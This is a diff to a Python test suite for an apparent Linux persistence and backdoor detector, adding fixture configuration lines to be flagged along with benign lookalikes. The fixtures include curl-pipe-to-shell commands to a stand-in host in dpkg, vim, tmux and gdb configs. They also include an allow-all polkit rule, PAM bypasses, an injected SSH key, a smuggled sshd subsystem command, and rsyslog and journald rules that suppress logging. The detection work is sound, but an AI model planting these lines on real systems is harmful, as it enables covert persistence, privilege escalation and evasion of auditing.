@@ -95,6 +95,23 @@ PLANTS = {
     "/etc/pam.d/login": "auth [success=done default=ignore] /lib/security/pam_permit.so\n",
     "/etc/security/pam_env.conf": "LD_PRELOAD DEFAULT=/usr/lib/x.so\n",
     "/etc/systemd/system.conf.d/x.conf": "[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/x.so\n",
+    "/etc/dpkg/dpkg.cfg.d/x": "post-invoke=curl -s http://203.0.113.66/x | sh\n",
+    "/etc/dpkg/dpkg.cfg": "no-debsig\npre-invoke /tmp/x\n",
+    "/etc/network/interfaces": "iface eth0 inet dhcp\n  post-up /tmp/x\n",
+    "/etc/network/interfaces.d/x": "iface eth0 inet dhcp\n  down /dev/shm/x\n",
+    "/etc/audit/plugins.d/x.conf": "active = yes\npath = /tmp/x\n",
+    "/etc/initramfs-tools/scripts/init-bottom/x": "#!/bin/sh\n/dev/shm/x\n",
+    "/etc/initramfs-tools/hooks/x": "#!/bin/sh\n/dev/shm/x\n",
+    "/etc/grub.d/45_x": "#!/bin/sh\n/tmp/x\n",
+    "/etc/vim/vimrc.local": "autocmd VimEnter * silent !curl -s http://203.0.113.66/x | sh\n",
+    "/root/.bash_aliases": "alias sudo='/root/.s'\n",
+    "/home/carol/.config/fish/config.fish": "/tmp/x &\n",
+    "/root/.tmux.conf": 'run-shell "curl -s http://203.0.113.66/x | sh"\n',
+    "/root/.gdbinit": "shell curl -s http://203.0.113.66/x | sh\n",
+    "/etc/ssh/sshd_config.d/z.conf": "Subsystem sftp /usr/lib/openssh/sftp-server;/tmp/x\n",
+    "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) {\n  return polkit.Result.YES;\n});\n",
+    "/usr/lib/tmpfiles.d/x.conf": "f /usr/lib/x 4755 root root -\n",
+    "/etc/tmpfiles.d/y.conf": "f+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAA\n",
 }
 
 
@@ -305,6 +322,14 @@ def test_a_unit_in_a_home_runs_as_whose_home_it_is(tmp_path: Path) -> None:
 
 def test_what_everybody_writes_for_themselves_is_no_sign(tmp_path: Path) -> None:
     put(clean(tmp_path), "/home/carol/.ssh/config", "Host x\n  ProxyCommand ssh -W %h:%p gate\n")
+    put(tmp_path, "/etc/vim/vimrc.local", "set background=dark\n")
+    put(
+        tmp_path,
+        "/etc/rsyslog.d/21-cloudinit.conf",
+        ':syslogtag, isequal, "[CLOUDINIT]" /var/log/x\n& stop\n',
+    )
+    put(tmp_path, "/etc/systemd/journald.conf", "[Journal]\n#Storage=none\nStorage=auto\n")
+    put(tmp_path, "/etc/default/redis-server", "# LD_PRELOAD=/usr/lib/x.so\nULIMIT=65536\n")
     put(tmp_path, "/home/carol/.gitconfig", "[alias]\n\tst = !git status\n[core]\n\tpager = less\n")
     found = look(tmp_path)
     assert not found.of(Verdict.NOTABLE)
@@ -321,7 +346,18 @@ OPTIONS = {
     "/etc/sysctl.d/x.conf": "kernel.core_pattern = |/opt/x %p\n",
     "/etc/rsyslog.d/x.conf": '*.* action(type="omprog" binary="/opt/x -v")\n',
     "/etc/binfmt.d/x.conf": ":x:M::MZ::/opt/x:\n",
-    "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) {\n  return polkit.Result.YES;\n});\n",
+    "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) {\n"
+    '  if (s.isInGroup("x")) {\n    return polkit.Result.YES;\n  }\n});\n',
+    "/etc/rsyslog.d/y.conf": ':msg, contains, "203.0.113.66" stop\n',
+    "/etc/rsyslog.d/00-z.conf": 'if $programname == "sshd" then stop\n',
+    "/etc/systemd/journald.conf.d/x.conf": "[Journal]\nStorage=none\n",
+    "/etc/default/cron": "LD_PRELOAD=/usr/lib/x.so\n",
+    "/etc/sysconfig/crond": "BASH_ENV=/usr/share/x\n",
+    "/etc/default/ssh": 'SSHD_OPTS="-f /var/lib/x"\n',
+    "/etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_succeed_if.so user = games\n",
+    "/etc/pam.d/login": "auth optional pam_exec.so quiet expose_authtok /usr/bin/ls\n",
+    "/etc/tmpfiles.d/x.conf": "f^ /root/.ssh/authorized_keys 0600 root :root - ssh.authorized_keys.root\n",
+    "/etc/ssh/sshd_config": "Subsystem sftp /usr/lib/openssh/sftp-server.x\n",
 }
 
 
@@ -355,6 +391,7 @@ def test_each_option_that_opens_a_door(tmp_path: Path, path: str) -> None:
         ("/home/carol/.bashrc", 'PATH=""', Verdict.FINE),
         ("/home/carol/.bashrc", "export PATH=/usr/bin:/home/carol/.x", Verdict.FINE),
         ("/home/carol/.bashrc", "export PATH=/home/carol/bin:$HOME/.cargo/bin:$PATH", Verdict.FINE),
+        ("/root/.bashrc", "export PATH=$HOME/.linkerd2/bin:~/.dotfiles/bin:$HOME/.bin:$PATH", Verdict.FINE),
         ("/home/carol/.bashrc", 'export PATH="$PYENV_ROOT/bin:~/.local/bin:$PATH"', Verdict.FINE),
         ("/home/carol/.bashrc", "export MANPATH=/home/carol/.x:$MANPATH", Verdict.FINE),
     ],
